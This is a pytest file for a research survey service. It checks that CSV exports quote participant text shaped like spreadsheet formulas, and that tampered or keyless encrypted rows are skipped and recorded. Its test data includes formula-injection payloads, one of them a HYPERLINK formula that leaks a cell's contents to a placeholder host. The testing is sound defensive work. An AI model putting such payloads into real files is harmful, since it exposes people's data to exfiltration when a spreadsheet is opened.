"""Exports against hostile answers and damaged data: formula text in CSV, rows that do not
decrypt (an altered ciphertext, a missing data key)."""

import csv
import hashlib
import io
import json
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import delete, select, update
from sqlalchemy.orm import Session

from service.models import DataKeyRecord, ExportManifest, Response
from service.services.catalogue import sync_definitions
from service.services.definitions import load_definitions
from tests.conftest import ask_also, valid_signature

Headers = dict[str, str]

WORDS = {
    "id": "hostile-words",
    "version": "1.0.0",
    "kind": "questionnaire",
    "title": "Free words",
    "language": "en-GB",
    "source": "test",
    "choice_sets": {
        "signs": [
            {"code": 0, "label": "=0"},
            {"code": 1, "label": "-1 or less"},
            {"code": 2, "label": "Plain"},
        ]
    },
    "items": [
        {"id": "hw_text", "text": "Anything", "type": "text", "required": True},
        {
            "id": "hw_int",
            "text": "A number",
            "type": "integer",
            "min": -10,
            "max": 10,
            "required": True,
        },
        {
            "id": "hw_choice",
            "text": "A sign",
            "type": "choice",
            "choices": "signs",
            "required": True,
        },
    ],
    "scores": [],
    "alerts": [],
}
# What a participant might type, each beginning as a spreadsheet formula would, and one not.
FORMULAS = [
    '=HYPERLINK("http://example.org/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = "plain words - and = inside"


@pytest.fixture
def words(session: Session, instruments_copy: Path) -> None:
    """hostile-words 1.0.0, asked at baseline."""
    folder = instruments_copy / "hostile-words"
    folder.mkdir()
    (folder / "1.0.0.json").write_text(json.dumps(WORDS))
    ask_also(instruments_copy, (0, "hostile-words", "1.0.0"))
    report = sync_definitions(session, load_definitions(instruments_copy))
    assert "hostile-words 1.0.0" in report.added and not report.refused


@pytest.fixture
def answered(client: FlaskClient, auth, words) -> dict[str, str]:
    """One consented participant per text (formulas, then the plain one): text -> study ID.
    Each also answers -3 and the option labelled "=0"."""
    researcher = auth("researcher")
    out = {}
    for text in [*FORMULAS, PLAIN]:
        made = client.post("/api/v1/participants", json={}, headers=researcher).get_json()
        me = {"Authorization": f"Bearer {made['token']}"}
        assert (
            client.post("/api/v1/me/consent", json=valid_signature(client), headers=me).status_code
            == 201
        )
        body = {
            "instrument": "hostile-words",
            "version": "1.0.0",
            "timepoint": "baseline",
            "answers": {"hw_text": text, "hw_int": -3, "hw_choice": 0},
            "submit": True,
        }
        submitted = client.post("/api/v1/me/responses", json=body, headers=me)
        assert submitted.status_code == 201, submitted.get_json()
        out[text] = made["study_id"]
    return out


def export(client: FlaskClient, analyst: Headers, query: str = ""):
    response = client.get(
        f"/api/v1/exports/responses?instrument=hostile-words&include_free_text=true&{query}",
        headers=analyst,
    )
    assert response.status_code == 200, response.get_data(as_text=True)
    return response


def by_study_id(response) -> dict[str, dict[str, str]]:
    rows = csv.DictReader(io.StringIO(response.get_data(as_text=True), newline=""))
    return {r["study_id"]: r for r in rows}


def test_text_a_spreadsheet_would_run_is_quoted_in_csv_and_exact_in_ndjson(
    client: FlaskClient, auth, answered: dict[str, str]
) -> None:
    analyst = auth("analyst")
    rows = by_study_id(export(client, analyst, "labels=true"))
    for text in FORMULAS:
        row = rows[answered[text]]
        assert row["hw_text"] == "'" + text
        assert row["hw_int"] == "-3"  # a number stays a number
        assert row["hw_choice"] == "'=0"  # an option label is text too
    assert rows[answered[PLAIN]]["hw_text"] == PLAIN
    codes = by_study_id(export(client, analyst))
    assert {r["hw_choice"] for r in codes.values()} == {"0"}
    ndjson = export(client, analyst, "labels=true&format=ndjson").get_data(as_text=True)
    records = {r["study_id"]: r for r in map(json.loads, ndjson.splitlines())}
    for text in [*FORMULAS, PLAIN]:
        record = records[answered[text]]
        assert (record["hw_text"], record["hw_int"], record["hw_choice"]) == (text, -3, "=0")


def test_the_codebook_says_how_csv_text_is_quoted(client: FlaskClient, auth, words) -> None:
    book = client.get(
        "/api/v1/exports/codebook?instrument=hostile-words&include_free_text=true",
        headers=auth("analyst"),
    ).get_json()
    columns = {c["name"]: c for c in book["versions"][0]["columns"]}
    assert "single quote" in columns["hw_text"]["note"]
    assert "labels=true" in columns["hw_choice"]["note"]
    assert columns["hw_int"]["note"] is None
    assert any("single quote" in note for note in book["notes"])


def _response_of(session: Session, study_id: str) -> Response:
    return session.scalars(select(Response).where(Response.study_id == study_id)).one()


def _access_event(client: FlaskClient, auth, export_id: str) -> dict:
    log = client.get("/api/v1/audit/access-log?limit=1000", headers=auth("auditor")).get_json()
    ends = [
        e["event"]
        for e in log["entries"]
        if e["event"]["filters"].get("export") == export_id
        and e["event"]["action"] == "export.responses"
    ]
    assert len(ends) == 1
    return ends[0]


@pytest.mark.parametrize("query", ["format=csv", "format=ndjson&pseudonyms=per-export"])
def test_a_row_whose_ciphertext_was_altered_is_skipped_named_and_the_download_completes(
    client: FlaskClient, auth, answered: dict[str, str], session: Session, query: str
) -> None:
    victim = _response_of(session, answered[PLAIN])
    altered = bytearray(victim.answers)
    altered[-1] ^= 0x01  # one bit of the tag
    session.execute(
        update(Response.__table__)
        .where(Response.__table__.c.id == victim.id)
        .values(answers=bytes(altered))
    )
    session.commit()
    analyst = auth("analyst")
    response = export(client, analyst, query)
    body = response.get_data()
    text = body.decode("utf-8")
    if "format=csv" in query:
        records = list(csv.reader(io.StringIO(text, newline="")))[1:]  # after the header
    else:
        records = [json.loads(line) for line in text.split("\n") if line]
    assert len(records) == len(FORMULAS)  # every row but the altered one
    assert answered[PLAIN] not in text
    export_id = response.headers["X-Export-Id"]
    manifest = client.get(f"/api/v1/exports/{export_id}", headers=analyst).get_json()
    assert manifest["status"] == "complete" and manifest["row_count"] == len(FORMULAS)
    assert manifest["sha256"] == hashlib.sha256(body).hexdigest()
    assert manifest["skipped_count"] == 1
    assert manifest["skipped"] == [
        {"response_id": str(victim.id), "reason": "does not authenticate"}
    ]
    event = _access_event(client, auth, export_id)
    assert event["filters"]["skipped"] == 1
    assert event["filters"]["skipped_response_ids"] == [str(victim.id)]
    assert event["rows"] == len(FORMULAS)


def test_rows_of_a_participant_whose_data_key_is_missing_are_skipped_and_named(
    client: FlaskClient, auth, answered: dict[str, str], session: Session
) -> None:
    study_id = answered[FORMULAS[0]]
    victim = _response_of(session, study_id)
    session.execute(delete(DataKeyRecord.__table__).where(DataKeyRecord.study_id == study_id))
    session.commit()
    analyst = auth("analyst")
    response = export(client, analyst)
    rows = by_study_id(response)
    assert len(rows) == len(FORMULAS) and study_id not in rows
    export_id = response.headers["X-Export-Id"]
    manifest = client.get(f"/api/v1/exports/{export_id}", headers=analyst).get_json()
    assert manifest["status"] == "complete" and manifest["skipped_count"] == 1
    assert manifest["skipped"] == [{"response_id": str(victim.id), "reason": "no data key"}]
    assert _access_event(client, auth, export_id)["filters"]["skipped_response_ids"] == [
        str(victim.id)
    ]


def test_the_command_line_export_skips_an_unreadable_row_and_says_so(
    app: Flask, answered: dict[str, str], session: Session, tmp_path: Path
) -> None:
    study_id = answered[PLAIN]
    victim = _response_of(session, study_id)
    session.execute(delete(DataKeyRecord.__table__).where(DataKeyRecord.study_id == study_id))
    session.commit()
    out = tmp_path / "words.csv"
    result = app.test_cli_runner().invoke(
        args=[
            "export",
            "responses",
            "--instrument",
            "hostile-words",
            "--include-free-text",
            "--pseudonyms",
            "per-export",
            "--submitted",
            "none",
            "--out",
            str(out),
        ]
    )
    assert result.exit_code == 0, result.output
    assert "skipped 1 rows" in result.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    assert len(rows) == len(FORMULAS)
    assert not {"submitted_at", "submitted_on"} & set(rows[0])
    assert {r["hw_text"] for r in rows} == {"'" + text for text in FORMULAS}
    manifest = session.scalars(
        select(ExportManifest).order_by(ExportManifest.created_at.desc())
    ).first()
    assert manifest is not None and manifest.skipped == [
        {"response_id": str(victim.id), "reason": "no data key"}
    ]
